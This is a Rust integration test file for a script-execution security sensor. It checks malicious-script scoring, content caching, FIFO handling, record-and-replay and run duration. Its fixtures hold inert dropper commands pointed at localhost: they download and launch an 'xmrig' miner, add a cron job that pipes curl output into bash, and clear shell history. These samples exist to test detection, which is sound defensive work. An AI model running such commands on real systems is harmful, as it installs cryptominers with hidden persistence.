//! The live pipeline end to end, fed with exec events for real processes on
//! this host (`sensor run --from-events`): scripts are resolved and read
//! through /proc/PID/root, findings come out, traces round-trip.
//! Kernel capture itself is tested with the capture tests; these need no eBPF.

use std::io::Write;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use serde_json::{json, Value};

/// Inert: exits before anything else; what follows is what the sensor reads.
const DROPPER: &str = "#!/bin/bash\nexit 0\n# never reached:\n\
cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x\n\
nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
(crontab -l 2>/dev/null; echo \"* * * * * curl -s http://127.0.0.1:9/s.sh | bash\") | crontab -\n\
history -c; rm -f ~/.bash_history\n";
/// Scored malicious as a `-c` literal (and inert: it exits first).
const MALICIOUS_INLINE: &str = "exit 0; cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; \
chmod +x /tmp/.x; nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 & history -c";
const BENIGN: &str = "#!/bin/sh\necho rotating logs\n";

/// A process standing in for an interpreter: alive while the sensor looks.
struct Holder(Child);

impl Holder {
    fn spawn(cwd: &Path) -> Self {
        Self(
            Command::new("/bin/sleep")
                .arg("60")
                .current_dir(cwd)
                .spawn()
                .unwrap(),
        )
    }

    fn pid(&self) -> u32 {
        self.0.id()
    }
}

impl Drop for Holder {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// `CLOCK_BOOTTIME`, the clock of the kernel's exec timestamps.
fn boot_ns() -> u64 {
    sensor::event::boot_time_ns()
}

fn event(n: u64, pid: u32, argv: &[&str], script: Value, cwd: &Path) -> Value {
    json!({
        "ktime_ns": boot_ns(), "time": format!("2026-01-05T10:00:{:02}.{:09}Z", n % 60, n),
        "pid": pid, "tid": pid, "ppid": std::process::id(), "uid": 0, "gid": 0,
        "comm": "bash", "cgroup_id": 1, "mnt_ns": 0, "pid_ns": 0,
        "binary": "/usr/bin/bash", "filename": "/usr/bin/bash",
        "argv": argv, "argv_truncated": false, "cwd": cwd.to_str().unwrap(),
        "script": script,
    })
}

fn write_events(path: &Path, events: &[Value]) {
    let mut f = std::fs::File::create(path).unwrap();
    for e in events {
        writeln!(f, "{e}").unwrap();
    }
}

fn sensor(args: &[&str]) -> (String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(args)
        .env("RUST_LOG", "warn")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(out.status.success(), "sensor {args:?} failed:\n{stderr}");
    (stdout, stderr)
}

/// The `{"summary": ...}` line sensor prints on exit.
fn summary(stderr: &str) -> Value {
    stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find_map(|v| v.get("summary").cloned())
        .unwrap_or_else(|| panic!("no summary in stderr:\n{stderr}"))
}

#[test]
fn run_record_then_replay_reproduces_the_findings_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    std::fs::write(work.join("dropper.sh"), DROPPER).unwrap();
    std::fs::write(work.join("benign.sh"), BENIGN).unwrap();
    std::os::unix::fs::symlink("dropper.sh", work.join("link.sh")).unwrap();
    let fifo = work.join("fifo.sh");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());

    let holder = Holder::spawn(work);
    let pid = holder.pid();
    let code = MALICIOUS_INLINE;
    let events = vec![
        event(
            1,
            pid,
            &["bash", "dropper.sh"],
            json!({"source": "file", "path": "dropper.sh"}),
            work,
        ),
        event(
            2,
            pid,
            &["bash", "benign.sh"],
            json!({"source": "file", "path": "benign.sh"}),
            work,
        ),
        event(
            3,
            pid,
            &["bash", "-c", code],
            json!({"source": "inline", "inline": code}),
            work,
        ),
        event(
            4,
            pid,
            &["bash", "link.sh"],
            json!({"source": "file", "path": "link.sh"}),
            work,
        ),
        // A FIFO as the script: refused with a reason, never a hang.
        event(
            5,
            pid,
            &["bash", "fifo.sh"],
            json!({"source": "file", "path": "fifo.sh"}),
            work,
        ),
        event(
            6,
            pid,
            &["bash", "nope.sh"],
            json!({"source": "file", "path": "nope.sh"}),
            work,
        ),
    ];
    let events_path = work.join("events.jsonl");
    write_events(&events_path, &events);
    let trace = work.join("run.trace.jsonl");
    let live_out = work.join("live.jsonl");
    let (_, stderr) = sensor(&[
        "run",
        "--from-events",
        events_path.to_str().unwrap(),
        "--record",
        trace.to_str().unwrap(),
        "--output",
        live_out.to_str().unwrap(),
    ]);
    let s = summary(&stderr);
    assert_eq!(s["events"], 6, "{s}");
    assert_eq!(s["malicious"], 3, "{s}");
    assert_eq!(s["findings"], 3, "{s}");
    assert_eq!(s["contents_missing"]["not_regular_file"], 1, "{s}");
    assert_eq!(s["contents_missing"]["not_found"], 1, "{s}");
    // link.sh is dropper.sh again: read from the content cache, unless both
    // were enriched at once (events are enriched concurrently; enrich.rs's
    // unit tests check the cache itself).
    let hits = s["cache_hits"]["content"].as_u64().unwrap();
    assert!(hits <= 1, "{s}");

    let live = std::fs::read_to_string(&live_out).unwrap();
    assert_eq!(live.lines().count(), 3);
    assert!(live.contains("stratum+tcp://127.0.0.1:3333"), "{live}");

    // The trace holds every exec (benign and unreadable ones too).
    let trace_text = std::fs::read_to_string(&trace).unwrap();
    assert_eq!(trace_text.lines().count(), 1 + 6);
    assert!(trace_text.contains("refused to read a FIFO"));

    let replay_out = work.join("replay.jsonl");
    let (_, stderr) = sensor(&[
        "replay",
        trace.to_str().unwrap(),
        "--output",
        replay_out.to_str().unwrap(),
    ]);
    assert!(stderr.contains("events/s"), "{stderr}");
    let replayed = std::fs::read_to_string(&replay_out).unwrap();
    assert_eq!(replayed, live, "replay differs from the live run");
    drop(holder);
}

#[test]
fn a_script_run_a_thousand_times_is_read_and_scored_once() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    std::fs::write(work.join("dropper.sh"), DROPPER).unwrap();
    let holder = Holder::spawn(work);
    let events: Vec<Value> = (0..1000)
        .map(|n| {
            event(
                n,
                holder.pid(),
                &["bash", "dropper.sh"],
                json!({"source": "file", "path": "dropper.sh"}),
                work,
            )
        })
        .collect();
    let events_path = work.join("events.jsonl");
    write_events(&events_path, &events);
    let out = work.join("findings.jsonl");
    let (_, stderr) = sensor(&[
        "run",
        "--workers",
        "1",
        "--from-events",
        events_path.to_str().unwrap(),
        "--output",
        out.to_str().unwrap(),
    ]);
    let s = summary(&stderr);
    assert_eq!(s["events"], 1000, "{s}");
    assert_eq!(s["cache_hits"]["content"], 999, "{s}");
    assert_eq!(s["cache_hits"]["score"], 999, "{s}");
    // Still one finding per execution.
    assert_eq!(s["findings"], 1000, "{s}");
    assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), 1000);
}

#[test]
fn duration_stops_a_run_whose_source_never_ends() {
    // stdin stays open: only --duration can end this run, and it must still
    // flush and print its summary.
    let mut child = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(["run", "--from-events", "-", "--duration", "0.5"])
        .env("RUST_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let code = MALICIOUS_INLINE;
    let ev = event(
        1,
        std::process::id(),
        &["bash", "-c", code],
        json!({"source": "inline", "inline": code}),
        Path::new("/"),
    );
    writeln!(stdin, "{ev}").unwrap();
    stdin.flush().unwrap();
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let s = summary(&stderr);
    assert_eq!(s["findings"], 1, "{s}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 1);
}

#[test]
fn bad_event_lines_are_reported_and_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let code = MALICIOUS_INLINE;
    let good = event(
        1,
        std::process::id(),
        &["bash", "-c", code],
        json!({"source": "inline", "inline": code}),
        Path::new("/"),
    );
    let path = dir.path().join("events.jsonl");
    std::fs::write(&path, format!("{good}\nnot json\n{good}\n")).unwrap();
    let (stdout, stderr) = sensor(&["run", "--from-events", path.to_str().unwrap()]);
    assert!(stderr.contains("events.jsonl:2:"), "{stderr}");
    assert_eq!(stdout.lines().count(), 2);
}
